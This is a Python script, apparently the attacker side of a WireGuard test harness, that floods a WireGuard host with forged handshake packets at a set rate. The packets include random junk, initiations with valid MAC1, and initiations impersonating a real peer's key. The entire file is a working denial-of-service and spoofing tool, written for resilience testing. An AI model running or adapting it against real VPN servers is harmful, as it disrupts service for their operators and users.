"""Forged WireGuard handshake messages at a fixed rate (the attacker in
test_attack_wg.py). Run inside the attacker's namespace:

    python3 wg_flood.py HOST PORT RESPONDER_PUB_B64 CLAIMED_PUB_B64 RATE SECONDS [PROCESSES]

Sends, in turn: initiations of random bytes (wrong MAC1), responses of random
bytes (wrong MAC1), initiations with a valid MAC1 for the responder's key and
an unknown static key, and initiations that claim CLAIMED_PUB (the real peer's
key, correctly encrypted, valid MAC1; only the timestamp cannot be forged).
Prints one JSON line: packets sent, seconds, rate achieved."""

import base64
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives import serialization

CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"
LABEL_MAC1 = b"mac1----"


def blake(*parts):
    h = hashlib.blake2s()
    for p in parts:
        h.update(p)
    return h.digest()


def mac(key, data):
    return hmac.new(key, data, hashlib.blake2s).digest()


def kdf2(key, data):
    t0 = mac(key, data)
    t1 = mac(t0, b"\x01")
    return t1, mac(t0, t1 + b"\x02")


def mac1(responder_pub, msg):
    return hashlib.blake2s(msg, key=blake(LABEL_MAC1, responder_pub), digest_size=16).digest()


def raw(pub):
    return pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)


def claimed_init(responder_pub, claimed_pub):
    """An initiation in `claimed_pub`'s name: everything right but the
    timestamp, which needs the claimed key's private half."""
    c = blake(CONSTRUCTION)
    h = blake(blake(c, IDENTIFIER), responder_pub)
    e = X25519PrivateKey.generate()
    epub = raw(e.public_key())
    c = mac(mac(c, epub), b"\x01")
    h = blake(h, epub)
    c, k = kdf2(c, e.exchange(X25519PublicKey.from_public_bytes(responder_pub)))
    static = ChaCha20Poly1305(k).encrypt(b"\0" * 12, claimed_pub, h)
    msg = struct.pack("<II", 1, int.from_bytes(os.urandom(4), "little")) + epub + static + os.urandom(28)
    return msg + mac1(responder_pub, msg) + b"\0" * 16


def packets(responder_pub, claimed_pub, n=256):
    out = []
    for i in range(n):
        kind = i % 4
        if kind == 0:
            out.append(b"\x01\0\0\0" + os.urandom(144))
        elif kind == 1:
            out.append(b"\x02\0\0\0" + os.urandom(88))
        elif kind == 2:
            msg = b"\x01\0\0\0" + os.urandom(112)
            out.append(msg + mac1(responder_pub, msg) + b"\0" * 16)
        else:
            out.append(claimed_init(responder_pub, claimed_pub))
    return out


def send_at(pkts, host, port, rate, secs):
    """Send `pkts` round-robin at `rate` per second for `secs`; return how many went out."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.connect((host, port))
    send = s.send
    batch = 250
    sent = 0
    start = time.monotonic()
    end = start + secs
    n = len(pkts)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = (now - start) * rate
        if sent >= due:
            time.sleep(min(0.001, (sent - due) / rate))
            continue
        for i in range(sent, sent + batch):
            try:
                send(pkts[i % n])
            except OSError:  # ENOBUFS, or ICMP unreachable: count only what went out
                sent -= 1
        sent += batch
    return sent


def main():
    host, port, rpub, cpub, rate, secs = sys.argv[1:7]
    workers = int(sys.argv[7]) if len(sys.argv) > 7 else 2
    pkts = packets(base64.b64decode(rpub), base64.b64decode(cpub))
    rate, secs = float(rate), float(secs)
    # One Python process tops out near 40,000/s here: split the rate.
    pipes = []
    start = time.monotonic()
    for w in range(workers):
        r, wr = os.pipe()
        if os.fork() == 0:
            os.close(r)
            sent = send_at(pkts[w::workers], host, int(port), rate / workers, secs)
            os.write(wr, str(sent).encode())
            os._exit(0)
        os.close(wr)
        pipes.append(r)
    sent = 0
    for r in pipes:
        sent += int(os.read(r, 64) or b"0")
        os.close(r)
    for _ in pipes:
        os.wait()
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2), "rate": round(sent / elapsed)}))


if __name__ == "__main__":
    main()
